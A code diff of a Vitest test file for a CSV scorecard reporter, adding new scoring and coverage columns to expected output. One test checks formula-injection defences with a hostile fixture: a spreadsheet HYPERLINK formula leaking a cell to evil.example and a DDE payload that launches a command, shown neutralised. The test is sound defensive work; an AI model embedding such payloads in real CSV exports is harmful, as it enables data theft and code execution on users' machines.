@@ -3,7 +3,7 @@ import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 
 import type { AuditReport } from '../../src/report.js';
-import { csvReporter, neutraliseFormula } from '../../src/reporters/csv.js';
+import { csvReporter, neutraliseFormula, SCORECARD_COLUMNS } from '../../src/reporters/csv.js';
 import { executableCellLines } from '../helpers/spreadsheet.js';
 import { HOSTILE_NAME, hostileReport } from '../fixtures/reporters/hostile.js';
 import { fixtureContext, fixtureReport } from '../fixtures/reporters/report.js';
@@ -21,8 +21,11 @@ describe('csv reporter', () => {
   it('uses CRLF record delimiters and ends with one', () => {
     expect(text.endsWith('\r\n')).toBe(true);
     expect(text.replaceAll('\r\n', '').includes('\n')).toBe(false);
+    // The columns of 0.1.0 first, in their places; the analyst's columns after them.
     expect(text.split('\r\n')[0]).toBe(
-      'id,name,stage,channel,owner,segments,score,grade,level,metric,value,target,attainment,errors,warnings,infos',
+      'id,name,stage,channel,owner,segments,score,grade,level,metric,value,target,attainment,errors,warnings,infos,' +
+        'target_op,target_value,unit,last_data_date,rows_used,rows_rejected,' +
+        'documentation_points,evidence_points,performance_points,hygiene_points,cap,waived,next_level_needs',
     );
   });
 
@@ -52,7 +55,23 @@ describe('csv reporter', () => {
       errors: '0',
       warnings: '2',
       infos: '0',
+      target_op: '',
+      target_value: '',
+      unit: '',
+      last_data_date: '2026-03-28',
+      rows_used: '12',
+      rows_rejected: '2',
+      // The pillars' points add up to the score (before a cap).
+      documentation_points: '25',
+      evidence_points: '25',
+      performance_points: '13.5',
+      hygiene_points: '7.5',
+      cap: '',
+      waived: '1',
+      next_level_needs: 'to reach L3: raise attendance_rate from 0.62 to 0.9',
     });
+    const reminder = records.find((r) => r.id === 'renewal-reminder');
+    expect([reminder?.cap, reminder?.evidence_points]).toEqual(['no owner', '25']);
   });
 
   it('neutralises names starting with = or @ but keeps negative numbers numeric', () => {
@@ -98,7 +117,7 @@ describe('csv reporter', () => {
     it('stays one quoted cell, read back by a CSV parser as a spreadsheet would', () => {
       const rows: string[][] = parse(hostile, { record_delimiter: '\r\n' });
       expect(rows).toHaveLength(1 + (hostileReport.scores?.touchpoints.length ?? 0));
-      expect(rows.every((row) => row.length === 16)).toBe(true);
+      expect(rows.every((row) => row.length === SCORECARD_COLUMNS.length)).toBe(true);
       expect(rows[1]?.[1]).toBe(
         "Renewal\n'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")\r\n'+cmd|' /C calc'!A0\n'@SUM(1)\n'-2+3\n'\tx",
       );
@@ -134,12 +153,18 @@ describe('csv reporter', () => {
 
   it('writes one row per group with --by', () => {
     const byOwner = csvReporter(fixtureReport, { ...fixtureContext, by: 'owner' });
+    // Coverage as fractions (the JSON's percent / 100); empty for a group without touchpoints.
     expect(byOwner).toBe(
-      'id,score,grade,touchpoints\r\n(unowned),68,D,2\r\ncs,81.5,B,2\r\nmarketing-ops,76,C,2\r\n',
+      [
+        'id,score,grade,touchpoints,documentation_coverage,data_coverage',
+        '(unowned),68,D,2,1,1',
+        'cs,81.5,B,2,1,1',
+        'marketing-ops,76,C,2,1,1',
+        '',
+      ].join('\r\n'),
     );
-    expect(csvReporter(fixtureReport, { ...fixtureContext, by: 'stage' }).split('\r\n')[4]).toBe(
-      'onboarding,90,A,2',
-    );
+    const byStage = csvReporter(fixtureReport, { ...fixtureContext, by: 'stage' }).split('\r\n');
+    expect([byStage[1], byStage[4]]).toEqual(['awareness,0,F,0,,', 'onboarding,90,A,2,1,1']);
   });
 
   it('writes the findings that still count for validate: rule, severity, touchpoint, file, line, column, message', () => {
